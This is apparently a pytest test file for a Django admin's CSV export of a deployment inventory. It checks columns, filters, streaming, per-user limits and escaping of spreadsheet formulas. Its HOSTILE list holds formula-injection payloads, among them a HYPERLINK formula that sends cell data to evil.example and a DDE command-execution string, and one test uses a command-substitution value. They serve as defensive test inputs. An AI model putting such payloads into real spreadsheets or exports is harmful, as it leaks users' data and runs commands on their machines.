"""A list goes out as CSV: the rows that it shows, streamed, and nothing in it is a formula to a spreadsheet."""

from __future__ import annotations

import csv
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from inventory.actors import SYSTEM
from inventory.editing.file.apply import import_inventory
from inventory.models import Instance, Node, Service
from releasesite.models import ServiceLimit
from tests.inventory.admin.test_editing import HOST_KEY, change_url, service_form
from tests.support.fleet import make_instances, make_node, make_service

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


def exported(page: Client, of: str, **query: Any) -> list[dict[str, str]]:
    response = page.get(reverse(f"admin:inventory_{of}_export"), query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert f'filename="{of}s.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(text.splitlines(keepends=True)))


def test_the_columns_and_values_are_those_of_the_inventory_file(admin_page: Client) -> None:
    service = {"name": "shop", "restart_command": 'a "b", c\nd\n', "mutable_versions": "true", "sync_enabled": "false"}
    node = {"name": "web-1", "host": "10.0.0.7", "transport": "ssh", "ssh_user": "deploy", "ssh_host_key": HOST_KEY}
    instance = {"instance_id": "i-1", "service": "shop", "node": "web-1", "port": "80", "deploy_root": "/srv/i-1"}
    text = (
        'services: [{name: shop, restart_command: "a \\"b\\", c\\nd\\n", mutable_versions: true, sync_enabled: false}]\n'
        f"nodes: [{{name: web-1, host: 10.0.0.7, transport: ssh, ssh_user: deploy, ssh_host_key: {HOST_KEY}}}]\n"
        "instances: [{instance_id: i-1, service: shop, node: web-1, port: 80, deploy_root: /srv/i-1}]\n"
    )
    import_inventory(text.encode(), filename="fleet.yaml", actor=SYSTEM)

    assert exported(admin_page, "service") == [
        {**service, "before_switch_command": "", "command_timeout": "60", "keep_releases": "5", "zip_names": "utf-8"}
        | {"require_sha256": "false", "signing_key": "", "staged_days": "7"}
        | {"version_command": "", "version_timeout": "30"}
    ]
    assert exported(admin_page, "node") == [
        {**node, "ssh_port": "22", "delivery": "push"} | {"jump": "", "jump_socket": ""}
    ]
    assert exported(admin_page, "instance") == [instance]


def test_it_holds_what_a_search_shows(admin_page: Client) -> None:
    make_instances(make_service(), make_node(), 12)

    assert [row["instance_id"] for row in exported(admin_page, "instance", q="instance-12")] == ["instance-12"]


def test_it_holds_what_a_filter_shows_in_the_lists_order(admin_page: Client) -> None:
    for name, count in (("few", 1), ("many", 3), ("none", 0)):
        make_instances(make_service(name), make_node(f"n-{name}"), count, prefix=name)
    make_service("mutable", mutable_versions=True)

    # Columns of the list count from 1; the third is the number of instances.
    rows = exported(admin_page, "service", mutable_versions__exact=0, o="-3")

    assert [row["name"] for row in rows] == ["many", "few", "none"]


def test_more_rows_than_a_page_of_the_list_go_out_in_one_query(admin_page: Client) -> None:
    service, node = make_service(), make_node()
    Instance.objects.bulk_create(
        Instance(instance_id=f"i-{n}", service=service, node=node, port=80, deploy_root=f"/srv/{n}")
        for n in range(2500)
    )
    response: Any = admin_page.get(reverse("admin:inventory_instance_export"))

    with CaptureQueriesContext(connection) as queries:
        lines = iter(response.streaming_content)
        head = [next(lines), next(lines)]
        Instance.objects.filter(instance_id="i-2499").update(port=81)
        rest = list(lines)

    assert head[0] == b"instance_id,service,node,port,deploy_root\r\n"
    assert len(head) + len(rest) == 2501
    assert sum("SELECT" in query["sql"] for query in queries.captured_queries) <= 1


def test_a_person_limited_to_some_services_gets_those(admin_page: Client, ann: User) -> None:
    own, other = make_service("own"), make_service("other")
    node = make_node()
    make_instances(own, node, 1, prefix="own")
    make_instances(other, node, 1, prefix="other")
    ServiceLimit.objects.create(user=ann).services.add(own)

    assert [row["instance_id"] for row in exported(admin_page, "instance")] == ["own-1"]
    assert [row["name"] for row in exported(admin_page, "service")] == ["own"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_is_a_formula(admin_page: Client, cell: str) -> None:
    make_service("shop", restart_command=cell, before_switch_command=cell)

    [row] = exported(admin_page, "service")

    assert row["restart_command"] == row["before_switch_command"] == f"'{cell}"


@pytest.mark.parametrize("cell", HOSTILE)
def test_nor_is_one_that_got_past_the_rules_for_names(admin_page: Client, cell: str) -> None:
    service, node = make_service(cell), make_node(cell, ssh_user=cell, host=cell, ssh_host_key="")
    Instance.objects.create(instance_id=cell, service=service, node=node, port=80, deploy_root=cell)

    cells = [
        text for of in ("service", "node", "instance") for row in exported(admin_page, of) for text in row.values()
    ]

    assert cells.count(f"'{cell}") == 8
    assert not [text for text in cells if text.startswith(tuple("=+-@\t\r\n＝"))]


def test_a_command_typed_into_the_form_is_harmless_in_the_export(admin_page: Client) -> None:
    service = make_service("shop")
    admin_page.post(change_url(service), service_form(service, restart_command="@echo $(id)"))

    [row] = exported(admin_page, "service")

    assert Service.objects.get().restart_command == "@echo $(id)"
    assert row["restart_command"] == "'@echo $(id)"


def test_the_list_links_to_it_with_its_filters(admin_page: Client) -> None:
    make_node()

    page = admin_page.get(reverse("admin:inventory_node_changelist"), {"transport__exact": "local"}).content.decode()

    assert "/admin/inventory/node/export/?transport__exact=local" in page
    assert Node.objects.count() == 1


def test_filters_that_mean_nothing_lead_back_to_the_list(admin_page: Client) -> None:
    answer = admin_page.get(reverse("admin:inventory_service_export"), {"mutable_versions__exact": "maybe"})

    assert (answer.status_code, answer["Location"]) == (302, "/admin/inventory/service/")
